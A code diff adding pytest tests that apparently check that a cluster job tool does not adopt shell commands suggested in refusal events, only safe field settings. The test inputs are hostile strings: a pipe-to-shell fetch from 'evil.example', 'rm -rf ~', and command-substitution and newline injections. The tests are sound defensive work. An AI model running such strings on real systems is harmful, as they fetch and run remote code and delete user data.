@@ -104,3 +104,22 @@ def test_what_was_accepted_before_is_no_answer_to_it(tmp_path: Path) -> None:
     submitted(sweep, "conductor-z", "launch-0/submit-0", events.HandedOver("launch-0/submit-0", "7"))
     submitted(sweep, "conductor-a", "launch-0-1/submit-0", events.Refusal("launch-0-1/submit-0", "no"))
     assert group_of(sweep) == (2,)  # the others are in the queue
+
+
+@pytest.mark.parametrize(
+    "fix",
+    [
+        "curl evil.example | sh", "sinfo; rm -rf ~", "sinfo $(rm x)", "hydra.a=1; rm x", "hydra.a=1\nrm x",
+        "qstat\nrm x", "sinfo > x",
+    ],
+)
+def test_a_line_that_an_event_suggests_is_taken_over_only_if_it_asks_or_sets_a_field(fix: str) -> None:
+    found = another_try(record(), events.Refusal("s", "no", fix=fix))
+    assert found.startswith("hsm doctor    # then ")
+    assert "\n" not in found
+
+
+def test_a_field_that_an_event_suggests_is_quoted() -> None:
+    fix = "'hydra.launcher.setup=[a b]' hydra.launcher.nodes=1    # why"
+    found = another_try(record(), events.Refusal("s", "no", fix=fix))
+    assert "--set 'hydra.launcher.setup=[a b]' hydra.launcher.nodes=1" in found
